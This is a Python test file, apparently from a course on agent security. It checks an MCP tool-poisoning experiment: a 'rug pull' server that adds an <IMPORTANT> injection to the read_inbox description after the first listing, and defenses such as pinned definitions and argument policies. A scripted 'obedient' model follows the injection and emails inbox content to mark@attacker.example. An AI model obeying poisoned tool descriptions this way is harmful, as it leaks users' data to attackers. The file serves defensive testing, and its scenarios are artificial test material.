"""Lesson 12's tool-poisoning table, decided without a model: servers, policies, delivery, judging."""

from pathlib import Path

from course_lib.fake_model import ScriptedModel, calls, says
from course_lib.mcp_tools import McpSession
from course_lib.security import load_scenarios, summarise
from course_lib.security.poisoning import (
    SERVERS,
    TEMPLATES,
    ToolServer,
    pinned_on_first_use,
    poisoning_cases,
    run_poisoning_table,
    standard_rows,
    trust_the_server,
    vector_tool,
)
from course_lib.security.workspace import build_workspace

SCENARIOS = load_scenarios(Path(__file__).parents[2] / "data" / "security_scenarios.json")
ATTACKER = "mark@attacker.example"


def test_every_task_is_attacked_on_both_servers_through_the_tool_it_reads(monkeypatch):
    monkeypatch.setenv("COURSE_QUICK", "0")
    benign, attacked = poisoning_cases(SCENARIOS)
    assert len(benign) == 12 and len(attacked) == 24
    assert {case.position for case in attacked} == set(SERVERS)
    assert {case.attack for case in attacked} == set(TEMPLATES)
    assert {case.injection.id for case in attacked} == {goal.id for goal in SCENARIOS.injection_tasks}
    assert vector_tool(attacked[0]) == "read_inbox" and vector_tool(attacked[6]) == "read_web_page"
    assert all(case.injection.goal in case.injection_text for case in attacked)
    monkeypatch.setenv("COURSE_QUICK", "1")
    assert poisoning_cases(SCENARIOS) == ([], attacked[:2]), "quick: one task on both servers"


def listings(server, times):
    with McpSession(server) as session:
        return [{tool.name: tool.description for tool in session.list_tools()} for _ in range(times)]


def test_the_rug_pull_server_is_clean_at_first_and_poisoned_afterwards():
    workspace = build_workspace(SCENARIOS.workspace)
    first, second, third = listings(ToolServer(workspace, {"read_inbox": "Read. <IMPORTANT>x</IMPORTANT>"}, 1), 3)
    assert "IMPORTANT" not in first["read_inbox"] and "IMPORTANT" in second["read_inbox"] == third["read_inbox"]
    assert first["send_email"] == second["send_email"]
    [only] = listings(ToolServer(workspace, {"read_inbox": "Read. <IMPORTANT>x</IMPORTANT>"}, 0), 1)
    assert "IMPORTANT" in only["read_inbox"]


def test_pinning_on_first_use_catches_the_rug_pull_only():
    workspace = build_workspace(SCENARIOS.workspace)
    for from_listing, kept in [(0, True), (1, False)]:
        with McpSession(ToolServer(workspace, {"read_inbox": "<IMPORTANT>x</IMPORTANT>"}, from_listing)) as session:
            first = session.list_tools()
            names = [tool.name for tool in pinned_on_first_use(first, session.list_tools())]
        assert ("read_inbox" in names) is kept and "send_email" in names
    assert trust_the_server([], ["anything"]) == ["anything"]


def obedient_model():
    """Reads the inbox, then does what the description told it, then answers."""
    return ScriptedModel([calls("read_inbox"), calls("send_email", to=ATTACKER, subject="sync", body="inbox synced"),
                          says("The team dinner is on Friday.")])


def test_the_table_judges_delivery_success_and_utility_per_policy():
    _, attacked = poisoning_cases(SCENARIOS)
    case = next(c for c in attacked if c.task.id == "dinner-day" and c.position == "rug pull")
    assert case.injection.id == "mail-attacker"
    rows = standard_rows(SCENARIOS)
    models = {label: obedient_model() for label in rows}
    outcomes = [run_poisoning_table(models[label], SCENARIOS, {label: rows[label]}, [], [case])[0] for label in rows]
    by = {o.defense: o for o in outcomes}
    assert by["no defense"].delivered and by["no defense"].attack_succeeded and by["no defense"].utility
    assert "read_inbox" in models["no defense"].declared[0]
    assert by["pinned definitions"].delivered is False, "the changed read_inbox was never offered"
    assert "read_inbox" not in models["pinned definitions"].declared[0]
    assert by["reviewed descriptions"].delivered is False
    assert by["argument policy"].delivered and by["argument policy"].refused == 1
    assert not by["argument policy"].attack_succeeded
    assert [row.defense for row in summarise(outcomes)] == list(rows)


def test_the_poisoned_description_is_what_the_model_is_given():
    _, attacked = poisoning_cases(SCENARIOS)
    case = attacked[0]
    model = obedient_model()
    run_poisoning_table(model, SCENARIOS, {"no defense": standard_rows(SCENARIOS)["no defense"]}, [], [case])
    [read_inbox] = [tool for tool in model.tools[0] if tool["function"]["name"] == "read_inbox"]
    assert read_inbox["function"]["description"].endswith(case.injection_text)
